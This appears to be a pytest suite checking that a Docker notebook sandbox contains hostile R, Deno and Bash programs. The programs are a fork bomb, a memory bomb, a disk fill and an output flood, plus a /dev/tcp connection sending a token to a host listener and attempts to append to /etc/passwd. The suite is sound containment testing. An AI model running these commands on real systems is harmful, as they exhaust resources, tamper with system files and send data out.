"""The hostile suite's core cases in R, TypeScript (Deno) and Bash (issue #28): each attack written in the
language itself, run through execute_notebook() in the kernels image with small limits, and judged from outside
as test_hostile.py judges the Python ones: the host's canary and disk, the listener on Docker's bridge, the marked
processes in the sandbox's cgroup after teardown, and the result. The sandbox is the same for every language, so
these show that no kernel (or its launcher) loosens it: a fork bomb meets the pids limit, a memory bomb the
memory limit, a disk fill max_data, an output flood max_output, and the network, the root filesystem and the
capabilities are as closed as for Python.
"""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import time
from collections.abc import Callable
from pathlib import Path

import pytest

import nbexec
from nbexec import ExecutionResult
from nbexec.sandbox.docker import pool

from ..conftest import KERNELS, created, output_root, settle
from .conftest import Listener
from .hostile_cases import Case, denied
from .test_hostile import prepare, survivors

LIMITS = {"memory": "256m", "max_data": "16m", "max_output": "64k", "timeout": 20}
# Bytes of text each flood prints, against the 64k cap. bash_kernel reads its pty through pexpect at about 60 kB/s,
# so its flood is smaller (still four times the cap).
FLOOD = {"r": 4 * 2**20, "deno": 4 * 2**20, "bash": 2**18}
# Bytes each disk fill tries to write, against the 16m cap. A missing cap shows on the host's disk as FILL lost;
# the parallel suite's other work (virtualenvs, image builds, the mutant runs) moves the host's free space by up
# to about 1 GiB while one case runs, so the fill is 4 GiB and the check allows 2 GiB of that noise.
FILL = 4 * 2**30

ATTEMPT = {  # a helper that prints "ALLOWED: what" when an attempt succeeds, "refused: what" when it fails
    "r": "attempt <- function(what, f) {\n"
         "  ok <- tryCatch({ suppressWarnings(f()); TRUE }, error = function(e) FALSE)\n"
         "  cat(if (ok) 'ALLOWED:' else 'refused:', what, '\\n')\n}\n",
    "deno": "async function attempt(what: string, f: () => unknown) {\n"
            "  try { await f(); console.log('ALLOWED:', what); }\n"
            "  catch (e) { console.log('refused:', what, (e as Error).name); }\n}\n",
    "bash": "attempt() { if eval \"$2\" 2>/dev/null; then echo \"ALLOWED: $1\"; else echo \"refused: $1\"; fi; }\n",
}
END = {"r": "cat('DENIED\\n')", "deno": "console.log('DENIED')", "bash": "echo DENIED"}

CODE: dict[str, dict[str, str]] = {
    # 400 marked `sleep`s started in the background, against the pids limit of 256.
    "fork-bomb": {
        "r": "made <- 0\nfor (i in 1:400) {\n"
             "  rc <- suppressWarnings(system('sleep @MARK@ &', ignore.stdout = TRUE, ignore.stderr = TRUE))\n"
             "  if (rc != 0) { cat('spawn refused after', made, '\\n'); break }\n  made <- made + 1\n}\n"
             "if (made == 400) cat('made 400 processes\\n')",
        "deno": "let made = 0;\ntry {\n  while (made < 400) {\n"
                "    new Deno.Command('sleep', { args: ['@MARK@'], stdout: 'null', stderr: 'null' }).spawn();\n"
                "    made++;\n  }\n  console.log('made', made, 'processes');\n"
                "} catch (e) { console.log('spawn refused:', (e as Error).message, 'after', made); }",
        # bash retries a refused fork for about 30 s, saying so: the time limit ends the cell.
        "bash": "for i in $(seq 400); do sleep @MARK@ & done\necho made 400 processes",
    },
    # 512 MiB touched, against the 256m limit.
    "memory-bomb": {
        "r": "blocks <- list()\nfor (i in 1:8) blocks[[i]] <- rep(1, 8 * 2^20)\ncat('held 512 MiB\\n')",
        "deno": "const blocks = [];\nfor (let i = 0; i < 8; i++) {\n"
                "  const b = new Uint8Array(64 * 2 ** 20);\n  b.fill(1);\n  blocks.push(b);\n}\n"
                "console.log('held 512 MiB');",
        "bash": "held=$(head -c 512M /dev/zero | tr '\\0' x)\necho held ${#held} bytes",
    },
    # Each fill then says how many bytes its file holds ("kept N"), whether its writes failed or not.
    "fill-data": {
        # R warns on each failed write: warnings as errors stop it at the first, so its last line is not drowned.
        # Its traceback quotes the code, so the words "wrote it all" are not written as one string there.
        "r": "options(warn = 2)\ntryCatch({\n  con <- file('/mnt/data/fill', 'wb')\n"
             f"  for (i in 1:{FILL >> 20}) writeBin(raw(2^20), con)\n"
             "  close(con)\n  cat('wrote it', 'all\\n')\n"
             "}, finally = cat('kept', sprintf('%.0f', file.size('/mnt/data/fill')), '\\n'))",
        "deno": "const f = Deno.openSync('/mnt/data/fill', { write: true, create: true });\n"
                f"try {{\n  const chunk = new Uint8Array(2 ** 20);\n  for (let i = 0; i < {FILL >> 20}; i++) "
                "f.writeSync(chunk);\n  console.log('wrote it all');\n"
                "} finally {\n  f.close();\n  console.log('kept', Deno.statSync('/mnt/data/fill').size);\n}",
        "bash": f"dd if=/dev/zero of=/mnt/data/fill bs=1M count={FILL >> 20}\nstat -c 'kept %s' /mnt/data/fill",
    },
    "output-flood": {
        "r": f"s <- strrep('y', 2^16)\nfor (i in 1:{FLOOD['r'] >> 16}) cat(s)",
        "deno": f"const s = 'y'.repeat(2 ** 16);\nfor (let i = 0; i < {FLOOD['deno'] >> 16}; i++) console.log(s);",
        "bash": f"head -c {FLOOD['bash']} /dev/zero | tr '\\0' y",
    },
    # The listener on the host (with this run's token), a public address, and a name lookup.
    "network": {
        "r": "attempt('tcp to the host', function() {\n"
             "  con <- socketConnection('@HOST@', @TCP@, open = 'r+b', blocking = TRUE, timeout = 3)\n"
             "  writeLines('@TOKEN@', con)\n  close(con)\n})\n"
             "attempt('tcp to 1.1.1.1', function() close(socketConnection('1.1.1.1', 80, open = 'r+b', "
             "blocking = TRUE, timeout = 3)))\n"
             "attempt('dns', function() if (is.null(utils::nsl('example.com'))) stop('no answer'))\n",
        "deno": "await attempt('tcp to the host', async () => {\n"
                "  const c = await Deno.connect({ hostname: '@HOST@', port: @TCP@ });\n"
                "  await c.write(new TextEncoder().encode('@TOKEN@'));\n  c.close();\n});\n"
                "await attempt('tcp to 1.1.1.1', async () => (await Deno.connect({ hostname: '1.1.1.1', port: 80 }))"
                ".close());\n"
                "await attempt('dns', () => Deno.resolveDns('example.com', 'A'));\n",
        "bash": "attempt 'tcp to the host' 'exec 3<>/dev/tcp/@HOST@/@TCP@ && echo @TOKEN@ >&3'\n"
                "attempt 'tcp to 1.1.1.1' 'exec 4<>/dev/tcp/1.1.1.1/80'\n"
                "attempt dns 'getent hosts example.com'\n",
    },
    # /var/tmp is world-writable: only the read-only root filesystem refuses it to the sandbox's user.
    "write-rootfs": {
        "r": "attempt('write /var/tmp/evil', function() writeLines('x', '/var/tmp/evil'))\n"
             "attempt('write /usr/evil', function() writeLines('x', '/usr/evil'))\n"
             "attempt('append /etc/passwd', function() cat('x\\n', file = '/etc/passwd', append = TRUE))\n"
             "attempt('mkdir /evil', function() if (!dir.create('/evil')) stop('refused'))\n",
        "deno": "await attempt('write /var/tmp/evil', () => Deno.writeTextFileSync('/var/tmp/evil', 'x'));\n"
                "await attempt('write /usr/evil', () => Deno.writeFileSync('/usr/evil', new Uint8Array([1])));\n"
                "await attempt('append /etc/passwd', () => Deno.writeTextFileSync('/etc/passwd', 'x', "
                "{ append: true }));\n"
                "await attempt('mkdir /evil', () => Deno.mkdirSync('/evil'));\n",
        "bash": "attempt 'write /var/tmp/evil' 'echo x > /var/tmp/evil'\n"
                "attempt 'write /usr/evil' 'echo x > /usr/evil'\n"
                "attempt 'append /etc/passwd' 'echo x >> /etc/passwd'\n"
                "attempt 'mkdir /evil' 'mkdir /evil'\n",
    },
    "capabilities": {
        "r": "cat(grep('^(Cap(Eff|Prm|Bnd)|NoNewPrivs):', readLines('/proc/self/status'), value = TRUE), "
             "sep = '\\n')",
        "deno": "console.log(Deno.readTextFileSync('/proc/self/status').split('\\n')\n"
                "  .filter((l) => /^(Cap(Eff|Prm|Bnd)|NoNewPrivs):/.test(l)).join('\\n'));",
        "bash": "grep -E '^(Cap(Eff|Prm|Bnd)|NoNewPrivs):' /proc/self/status",
    },
}
TRIES = {"network", "write-rootfs"}  # attempts judged by `denied`: each refused, and the program got to its end


# -- checks ------------------------------------------------------------------------------------------------------

def spawn_refused(result: ExecutionResult) -> None:
    """The pids limit refused a process (each kernel says so its own way) before 400 were made."""
    said = result.stdout + (result.error.evalue if result.error else "")
    assert "made 400" not in said, said[-500:]
    assert "spawn refused" in said or "fork: retry: Resource temporarily unavailable" in said, (said[-500:],
                                                                                               result.error)


def out_of_memory(result: ExecutionResult) -> None:
    """The sandbox was killed at the memory limit, and the result says so with the limit."""
    assert result.error is not None, f"the allocation succeeded: {result.stdout[-500:]}"
    assert result.error.kind == "oom" and "256m" in result.error.evalue, result.error


def data_full(result: ExecutionResult) -> None:
    """The write failed at max_data (ENOSPC inside the sandbox, or the sandbox stopped at the cap), the file the
    sandbox made holds at most max_data, and what the host collected is within it. bash's dd failing does not fail
    the cell: the ENOSPC it prints, or the note, says so."""
    error = result.error
    said = "\n".join((result.stdout, result.stderr, *result.notes,
                      *((error.evalue, error.traceback_text) if error else ())))
    assert (error is not None and error.kind == "limit") or "No space left on device" in said, (said[-500:], error)
    assert "wrote it all" not in said, said[-500:]
    kept = re.findall(r"^kept (\d+)\s*$", said, re.M)
    assert len(kept) == 1 and int(kept[0]) <= 16 * 2**20, ("the sandbox put more than max_data in /mnt/data",
                                                             kept, said[-500:])
    assert sum(f.size for f in result.files) <= 16 * 2**20, result.files


def flood_capped(flood: int) -> Callable[[ExecutionResult], None]:
    def check(result: ExecutionResult) -> None:
        """The run ended ok, what is kept fits max_output (64k), and the dropped bytes are counted: kept + dropped
        is all of it."""
        kept = len(result.stdout.encode()) + len(result.stderr.encode())
        assert result.ok and 0 < kept <= 2 * 64 * 1024, (kept, result.error)
        assert result.truncated_bytes > 0 and kept + result.truncated_bytes >= flood, (kept, result.truncated_bytes)
    return check


def no_capabilities(result: ExecutionResult) -> None:
    found = dict(re.findall(r"^(Cap\w+|NoNewPrivs):\s*(\w+)", result.stdout, re.M))
    assert result.ok and found == {"CapEff": "0" * 16, "CapPrm": "0" * 16, "CapBnd": "0" * 16, "NoNewPrivs": "1"}, (
        result.stdout, result.error)


CHECKS: dict[str, Callable[[ExecutionResult], None]] = {
    "fork-bomb": spawn_refused, "memory-bomb": out_of_memory, "fill-data": data_full,
    "network": denied, "write-rootfs": denied, "capabilities": no_capabilities}
TIMEOUTS = {("fork-bomb", "bash"): 8}  # bash retries each refused fork: its bomb ends at the time limit
WALL_S = 45.0


def code_of(case: str, language: str) -> str:
    if case in TRIES:
        return ATTEMPT[language] + CODE[case][language] + END[language]
    return CODE[case][language]


def language_config(language: str, canary_path: Path, case: str) -> nbexec.SandboxConfig:
    return nbexec.SandboxConfig(language=language, kernels_image=KERNELS, pool_size=0, warm_imports=(),
                                interrupt_grace=2, env={"PLANTED_PATH": str(canary_path)},
                                **{**LIMITS, "timeout": TIMEOUTS.get((case, language), LIMITS["timeout"])})


def host_free() -> int:
    return shutil.disk_usage(output_root().parent).free


@pytest.mark.parametrize("language", ["r", "deno", "bash"])
@pytest.mark.parametrize("case", list(CODE))
def test_hostile_program_is_contained_in_each_language(case: str, language: str, canary: Path, listener: Listener,
                                                       kernels_image: str, cleanup_ledger: None) -> None:
    check = flood_capped(FLOOD[language]) if case == "output-flood" else CHECKS[case]
    run = prepare(Case(f"{language}-{case}", code_of(case, language), check), listener)
    before = (canary.stat().st_mtime_ns, hashlib.sha256(canary.read_bytes()).hexdigest())
    free_before = host_free()
    started = time.monotonic()
    with created() as seen:
        result = nbexec.execute_notebook(run.code, config=language_config(language, canary, case))
    elapsed = time.monotonic() - started
    run.case.check(result)
    assert elapsed < WALL_S, f"took {elapsed:.1f} s"
    assert (canary.stat().st_mtime_ns, hashlib.sha256(canary.read_bytes()).hexdigest()) == before
    assert "s3cret-canary" not in json.dumps(result.to_dict())
    assert listener.got(run.token) == b"", "the host listener received data from the sandbox"
    # The host's disk: a fill of 4 GiB left at most about max_data there. Judged for the fill only: the other cases
    # write a few bytes or MiB, far below the noise of the parallel suite (see FILL), and judge their effect inside.
    if case == "fill-data":
        assert free_before - host_free() < FILL // 2, "the host's disk lost what the sandbox wrote"
    pool.wait_for_teardown()  # nothing the code started survives on the host once its sandbox is gone
    sandboxes = seen.ids()
    assert sandboxes, "the run's sandbox was not seen"
    settle(lambda: not survivors(sandboxes, run.mark), 5)
    assert survivors(sandboxes, run.mark) == []
